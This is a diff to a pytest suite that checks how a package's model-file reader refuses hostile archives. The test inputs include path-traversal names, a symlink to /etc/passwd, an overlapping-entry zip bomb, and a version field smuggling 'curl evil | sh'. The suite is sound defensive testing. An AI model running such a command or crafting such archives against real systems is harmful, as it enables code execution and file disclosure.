@@ -2,12 +2,12 @@
 
 from __future__ import annotations
 
-import contextlib
 import errno
 import hashlib
 import io
 import json
 import os
+import pickle
 import stat
 import struct
 import zipfile
@@ -17,10 +17,12 @@ import pytest
 
 from textrnn import files
 from textrnn.bundle import read_bundle, write_bundle
+from textrnn.bundle.archive import pack
 from textrnn.bundle.format import FORMAT, to_json
 from textrnn.errors import ModelFileError, OutputError
+from textrnn.resources import peak_mb
 
-MEMBERS = {"a.json": b'{"x": 1}', "b.bin": bytes(range(256)) * 4, "empty": b""}
+MEMBERS = {"a.json": b'{"x": 1}', "b.safetensors": bytes(range(256)) * 4, "empty.json": b""}
 MARK = b"textrnn-sha256:"
 
 
@@ -40,15 +42,24 @@ def resealed(data):
     return data[:-64] + hashlib.sha256(data[:-64]).hexdigest().encode()
 
 
-def forged(members, manifest=None, compression=zipfile.ZIP_STORED, **changes):
-    """A file with a valid digest and any members."""
-    listed = {name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)} for name, data in members}
-    manifest = {"format": FORMAT, "needs": "0.1.0", "members": listed} | changes if manifest is None else manifest
+def listed(members):
+    return {name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)} for name, data in members.items()}
+
+
+def forged(members, manifest=None, **changes):
+    """A file as textrnn lays them out, with a valid digest and any members."""
+    manifest = {"format": FORMAT, "needs": "0.1.0", "members": listed(members)} if manifest is None else manifest
+    manifest = manifest | changes if changes else manifest
+    return resealed(b"".join(pack({"manifest.json": to_json(manifest), **members}, MARK + b"0" * 64)))
+
+
+def zipped(members, compression=zipfile.ZIP_STORED):
+    """The same by another program; `members` are pairs."""
+    manifest = {"format": FORMAT, "needs": "0.1.0", "members": listed(dict(members))}
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", compression) as archive:
-        archive.writestr("manifest.json", to_json(manifest))
-        for name, data in members:
-            archive.writestr(name, data)
+        for name, data in [("manifest.json", to_json(manifest)), *members]:
+            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)) if isinstance(name, str) else name, data)
     return sealed(buffer)
 
 
@@ -97,7 +108,9 @@ def test_the_same_members_give_the_same_bytes(tmp_path):
 
 
 def test_the_helper_of_these_tests_forges_files_that_are_read(path):
-    path.write_bytes(forged(list(MEMBERS.items())))
+    path.write_bytes(forged(MEMBERS))
+    assert read_bundle(path) == MEMBERS
+    path.write_bytes(zipped(list(MEMBERS.items())))
     assert read_bundle(path) == MEMBERS
 
 
@@ -145,9 +158,26 @@ def test_damage_is_called_damage(path):
 # what is not a model file
 
 
-@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"\x89HDF\r\n\x1a\n" + b"0" * 500, b"text,label\ngood,1\n" * 50])
-def test_another_kind_of_file_is_not_a_model_file(path, data):
-    assert refused(path, data) == "not a textrnn model file; name one that 'textrnn fit' wrote"
+@pytest.mark.parametrize(
+    ("data", "kind"),
+    [
+        (b"", ""),
+        (b"text,label\ngood,1\n" * 50, ""),
+        (pickle.dumps([1, 2]), " (pickle)"),
+        (b"\x89HDF\r\n\x1a\n" + b"0" * 500, " (HDF5)"),
+        (b"PK\x03\x04", " (another zip, such as a Keras archive)"),
+    ],
+)
+def test_another_kind_of_file_is_not_a_model_file(path, data, kind):
+    assert refused(path, data) == f"not a textrnn model file{kind}; name one that 'textrnn fit' wrote"
+
+
+def test_a_large_file_of_another_kind_is_not_read(path, monkeypatch):
+    with path.open("wb") as file:
+        file.truncate(3 << 30)
+    before = peak_mb()
+    assert refused(path).startswith("not a textrnn model file")
+    assert peak_mb() - before < 50
 
 
 def test_a_zip_that_someone_else_made_is_not_a_model_file(path):
@@ -168,70 +198,124 @@ def test_a_missing_file_a_folder_and_a_pipe_are_told_apart(path, tmp_path):
 def test_a_file_that_may_not_be_read_says_so(path, monkeypatch):
     write_bundle(path, MEMBERS, needs="0.1.0")
 
-    def deny(_):
+    def deny(*_):
         raise PermissionError(errno.EACCES, "Permission denied")
 
-    monkeypatch.setattr(type(path), "read_bytes", deny)
+    monkeypatch.setattr(type(path), "open", deny)
     assert refused(path) == "cannot be read (Permission denied); check its permissions"
 
 
 # files made on purpose, with a valid digest
 
 
+NOT_ITS = "not as textrnn writes model files (its members are not those of its manifest); do not use it"
+
+
 def test_a_member_that_the_manifest_does_not_name_is_refused(path):
-    listed = {name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)} for name, data in MEMBERS.items()}
-    extra = forged([*MEMBERS.items(), ("run.py", b"print()")], {"format": FORMAT, "needs": "0", "members": listed})
-    assert refused(path, extra) == "its members are not those of its manifest; do not use it"
+    manifest = {"format": FORMAT, "needs": "0", "members": listed(MEMBERS)}
+    assert refused(path, forged({**MEMBERS, "more.json": b"{}"}, manifest)) == NOT_ITS
 
 
 def test_a_member_that_is_missing_is_refused(path):
-    listed = {name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)} for name, data in MEMBERS.items()}
-    missing = forged(list(MEMBERS.items())[1:], {"format": FORMAT, "needs": "0", "members": listed})
-    assert refused(path, missing) == "its members are not those of its manifest; do not use it"
+    manifest = {"format": FORMAT, "needs": "0", "members": listed(MEMBERS)}
+    assert refused(path, forged(dict(list(MEMBERS.items())[1:]), manifest)) == NOT_ITS
+
+
+def test_a_member_other_than_the_manifest_says_is_refused(path):
+    for wrong in ({"sha256": "0" * 64, "size": 8}, {**listed(MEMBERS)["a.json"], "size": 9}):
+        manifest = {"format": FORMAT, "needs": "0", "members": {"a.json": wrong}}
+        assert refused(path, forged({"a.json": MEMBERS["a.json"]}, manifest)) == NOT_ITS
 
 
 @pytest.mark.filterwarnings("ignore:Duplicate name")
 @pytest.mark.parametrize("twice", ["a.json", "manifest.json"])
 def test_a_member_that_is_there_twice_is_refused(path, twice):
-    listed = {name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)} for name, data in MEMBERS.items()}
-    manifest = {"format": FORMAT, "needs": "0", "members": listed}
-    again = to_json(manifest) if twice == "manifest.json" else MEMBERS[twice]
-    assert refused(path, forged([*MEMBERS.items(), (twice, again)], manifest)) == (
-        "its members are not those of its manifest; do not use it"
-    )
+    again = b"{}" if twice == "manifest.json" else MEMBERS[twice]
+    assert f"has {twice} twice" in refused(path, zipped([*MEMBERS.items(), (twice, again)]))
 
 
 @pytest.mark.parametrize("compression", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
 def test_a_compressed_member_is_refused(path, compression):
-    data = forged([("a.json", b"0" * 10_000)], compression=compression)
-    assert refused(path, data) == "has compressed or encrypted members, which textrnn never writes; do not use it"
+    entry = zipfile.ZipInfo("a.json", (1980, 1, 1, 0, 0, 0))
+    entry.compress_type = compression
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr(zipfile.ZipInfo("manifest.json", (1980, 1, 1, 0, 0, 0)), b"{}")
+        archive.writestr(entry, b"0" * 10_000)
+    assert "a member is compressed, encrypted or otherwise not plain" in refused(path, sealed(buffer))
 
 
-def test_a_member_other_than_the_manifest_says_is_refused(path):
-    manifest = {"format": FORMAT, "needs": "0", "members": {"a.json": {"sha256": "0" * 64, "size": 8}}}
-    assert refused(path, forged([("a.json", MEMBERS["a.json"])], manifest)) == (
-        "its member a.json is not the one that was written; do not use it"
-    )
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../a.json",
+        "/etc/a.json",
+        "C:\\a.json",
+        "sub/a.json",
+        "a\\b.json",
+        "A.JSON",
+        "a.json/",
+        ".json",
+        "code.py",
+        "model.pkl",
+        "model.keras",
+        "weights.h5",
+        "model.onnx",
+        "모델.json",
+    ],
+)
+def test_a_name_that_is_a_path_or_of_another_kind_is_refused(path, name):
+    told = "otherwise not plain" if not name.isascii() else "a model holds JSON and safetensors only"
+    assert told in refused(path, zipped([(name, b"{}")]))
+    with pytest.raises(ValueError, match="no name of a member"):
+        write_bundle(path, {name: b"{}"}, needs="0")
+
+
+def test_a_link_is_refused(path):
+    entry = zipfile.ZipInfo("a.json", (1980, 1, 1, 0, 0, 0))
+    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr(entry, b"/etc/passwd")
+    assert "its directory is not that of its members" in refused(path, sealed(buffer))
 
 
 def test_members_that_share_their_bytes_are_refused(path):
     # a zip bomb without compression: many entries of the directory point to one large member
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("manifest.json", b"{}")
-        archive.writestr("big", b"0" * 50_000)
+        archive.writestr(zipfile.ZipInfo("manifest.json", (1980, 1, 1, 0, 0, 0)), b"{}")
+        archive.writestr(zipfile.ZipInfo("big.json", (1980, 1, 1, 0, 0, 0)), b"0" * 50_000)
         for i in range(20):
-            entry = zipfile.ZipInfo(f"big{i}")
-            entry.header_offset, entry.file_size = archive.getinfo("big").header_offset, 50_000
-            entry.compress_size, entry.CRC = 50_000, archive.getinfo("big").CRC
+            entry = zipfile.ZipInfo(f"big{i}.json", (1980, 1, 1, 0, 0, 0))
+            entry.header_offset, entry.file_size = archive.getinfo("big.json").header_offset, 50_000
+            entry.compress_size, entry.CRC = 50_000, archive.getinfo("big.json").CRC
             archive.filelist.append(entry)
             archive.NameToInfo[entry.filename] = entry
-    assert refused(path, sealed(buffer)) == "its members overlap; do not use it"
+    assert "its directory is not that of its members" in refused(path, sealed(buffer))
+
+
+def test_a_hundred_thousand_members_are_refused(path):
+    members = {f"m{i}.json": b"" for i in range(100_000)}
+    with pytest.raises(ValueError, match="too many members"):
+        write_bundle(path, members, needs="0")
+    assert "has too many members" in refused(path, zipped(list(members.items())))
+
+
+def test_a_member_larger_than_the_file_is_refused(path):
+    data = bytearray(forged(MEMBERS))
+    place = data.index(b"PK\x03\x04", 4)
+    struct.pack_into("<II", data, place + 18, 1 << 31, 1 << 31)
+    assert "a member is larger than the file" in refused(path, resealed(bytes(data)))
 
 
 def test_a_newer_format_names_the_version_it_needs(path):
-    data = forged(list(MEMBERS.items()), format=FORMAT + 1, needs="3.2.1")
+    data = forged(MEMBERS, format=FORMAT + 1, needs="3.2.1")
     assert refused(path, data) == "needs textrnn >= 3.2.1; pip install -U textrnn"
+    # what stands there is somebody's text, and is shown only where it is a version
+    assert refused(path, forged(MEMBERS, format=FORMAT + 1, needs="1; curl evil | sh")) == (
+        "needs textrnn of a later version; pip install -U textrnn"
+    )
 
 
 @pytest.mark.parametrize(
@@ -250,47 +334,35 @@ def test_a_newer_format_names_the_version_it_needs(path):
     ],
 )
 def test_a_manifest_of_another_shape_is_refused(path, manifest):
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("manifest.json", json.dumps(manifest))
-        archive.writestr("a.json", b"{}")
-    refused(path, sealed(buffer))
+    refused(path, resealed(b"".join(pack({"manifest.json": json.dumps(manifest).encode()}, MARK + b"0" * 64))))
 
 
 def test_a_zip_without_a_manifest_is_refused(path):
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("a.json", b"{}")
-    refused(path, sealed(buffer))
+    refused(path, resealed(b"".join(pack({"a.json": b"{}"}, MARK + b"0" * 64))))
 
 
-def test_a_damaged_zip_structure_under_a_valid_digest_is_refused_or_read_right(path):
+def test_any_byte_changed_under_a_valid_digest_is_refused(path):
     write_bundle(path, MEMBERS, needs="0.1.0")
     data = path.read_bytes()
     rng = np.random.default_rng(1)
     inside = len(data) - 64 - len(MARK)
-    structure = data.index(b"PK\x01\x02")
-    for place in [*range(30), *range(structure, inside), *rng.integers(0, inside, 100)]:
+    for place in range(inside):
         changed = bytearray(data)
         changed[place] ^= int(rng.integers(1, 256))
-        path.write_bytes(resealed(bytes(changed)))
-        with contextlib.suppress(ModelFileError):
-            assert read_bundle(path) == MEMBERS, place
+        refused(path, resealed(bytes(changed)))
 
 
 def test_a_manifest_nested_too_deep_is_refused(path):
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("manifest.json", b"[" * 100_000)
-    refused(path, sealed(buffer))
+    refused(path, resealed(b"".join(pack({"manifest.json": b"[" * 100_000}, MARK + b"0" * 64))))
 
 
 def test_an_encrypted_member_is_refused(path):
-    data = bytearray(forged([("a.json", b"{}")]))
-    entry = data.index(b"PK\x01\x02")
-    flags = struct.unpack_from("<H", data, entry + 8)[0]
-    struct.pack_into("<H", data, entry + 8, flags | 1)
-    assert "compressed or encrypted" in refused(path, resealed(bytes(data)))
+    data = bytearray(forged({"a.json": b"{}"}))
+    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        entry = data.rindex(sign)
+        flags = struct.unpack_from("<H", data, entry + place)[0]
+        struct.pack_into("<H", data, entry + place, flags | 1)
+    assert "a member is compressed, encrypted or otherwise not plain" in refused(path, resealed(bytes(data)))
 
 
 # writing
@@ -316,7 +388,7 @@ def test_a_disk_that_fails_leaves_the_old_file(path, monkeypatch, call):
 
     monkeypatch.setattr(files.os, call, fail)
     with pytest.raises(OutputError, match=r"cannot be written \(No space left on device\)"):
-        write_bundle(path, {"other": b"1"}, needs="0.1.0")
+        write_bundle(path, {"other.json": b"1"}, needs="0.1.0")
     monkeypatch.undo()
     assert path.read_bytes() == before
     assert os.listdir(path.parent) == [path.name]
@@ -343,8 +415,8 @@ def test_an_existing_file_is_kept_unless_forced(path):
     with pytest.raises(OutputError, match="exists already; add --force"):
         write_bundle(path, {}, needs="0.1.0", force=False)
     assert read_bundle(path) == MEMBERS
-    write_bundle(path, {"other": b"1"}, needs="0.1.0")
-    assert read_bundle(path) == {"other": b"1"}
+    write_bundle(path, {"other.json": b"1"}, needs="0.1.0")
+    assert read_bundle(path) == {"other.json": b"1"}
 
 
 @pytest.mark.skipif(os.name == "nt", reason="Windows has no modes")
